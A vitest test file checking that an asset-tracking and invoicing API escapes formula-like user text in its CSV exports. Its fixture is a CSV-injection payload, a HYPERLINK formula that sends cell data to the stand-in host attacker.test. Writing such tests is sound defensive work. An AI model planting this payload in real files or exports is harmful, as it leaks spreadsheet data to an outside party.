import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addDays, todayIn } from '../../shared/calibration/due-date';
import { bearer, createTestApp, type TestApp } from '../support/test-app';

// OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): a cell a
// spreadsheet would run as a formula must start with a single quote instead.
const formula = '=HYPERLINK("http://attacker.test/?leak="&A2,"Open the certificate")';

let t: TestApp;
let owner: string;
let manager: string;
let billing: string;
beforeAll(async () => {
  t = await createTestApp();
  [owner, manager, billing] = await Promise.all(['owner@demo.test', 'manager@demo.test', 'billing@demo.test'].map((e) => t.tokenFor(e)));
});
afterAll(() => t.close());

const records = (text: string) => parseCsv(text, { columns: true }) as Record<string, string>[];

describe('every CSV download writes user text that looks like a formula as text', () => {
  let assetTag: string;
  beforeAll(async () => {
    const created = await t.api
      .post('/api/assets')
      .set(bearer(manager))
      .send({
        type: 'tracker',
        assetTag: 'TRK-CSVF',
        serialNumber: 'TF-1',
        notes: formula,
        location: '-2+3',
        calibration: { required: true, intervalMonths: 12, lastCalibratedOn: addDays(todayIn('Europe/Berlin'), -400), provider: formula },
      });
    expect(created.status).toBe(201);
    assetTag = created.body.assetTag;
  });

  it('the fleet export', async () => {
    const res = await t.api.get(`/api/assets/export.csv?q=${assetTag}`).set(bearer(manager));
    expect(res.status).toBe(200);
    const [row] = records(res.text);
    expect(row).toMatchObject({ notes: `'${formula}`, location: "'-2+3", calibrationProvider: `'${formula}` });
    // RFC 4180 §2.6–2.7: the guarded cell is one quoted field with its quotes doubled.
    expect(res.text).toContain(`"'${formula.replaceAll('"', '""')}"`);
  });

  it("the owner's recalibration list", async () => {
    const res = await t.api.get('/api/calibration/review.csv').set(bearer(owner));
    expect(res.status).toBe(200);
    const row = records(res.text).find((r) => r.assetTag === assetTag);
    expect(row).toMatchObject({ state: 'overdue', provider: `'${formula}` });
  });

  it('the invoices and credit notes, where negative amounts stay numbers', async () => {
    const [invoice] = (await t.api.get('/api/invoices?kind=invoice').set(bearer(billing))).body.items as { id: string; customerId: string; number: string }[];
    const customer = (await t.api.get(`/api/customers/${invoice.customerId}`).set(bearer(billing))).body;
    const renamed = await t.api.put(`/api/customers/${customer.id}`).set(bearer(billing)).send({ company: formula, billingEmail: customer.billingEmail });
    expect(renamed.status).toBe(200);
    const credit = await t.api
      .post(`/api/invoices/${invoice.id}/credit-note`)
      .set(bearer(billing))
      .send({ reason: 'Goodwill for a late delivery', amountMinor: 1000 });
    expect(credit.status).toBe(201);

    const res = await t.api.get('/api/invoices/export.csv').set(bearer(billing));
    expect(res.status).toBe(200);
    // Amounts as plain decimals with the currency in the heading (toFixed is an independent check of the digits).
    const dueAtIssue = (credit.body.balanceMinor / 100).toFixed(2);
    const row = records(res.text).find((r) => r.Number === credit.body.number);
    expect(row).toMatchObject({ Customer: `'${formula}`, Corrects: invoice.number, 'Due at issue (EUR)': dueAtIssue, 'Balance (EUR)': '0.00' });
    expect(credit.body.balanceMinor).toBeLessThan(0);
    expect(res.text).toContain(`,${dueAtIssue},`);
  });
});
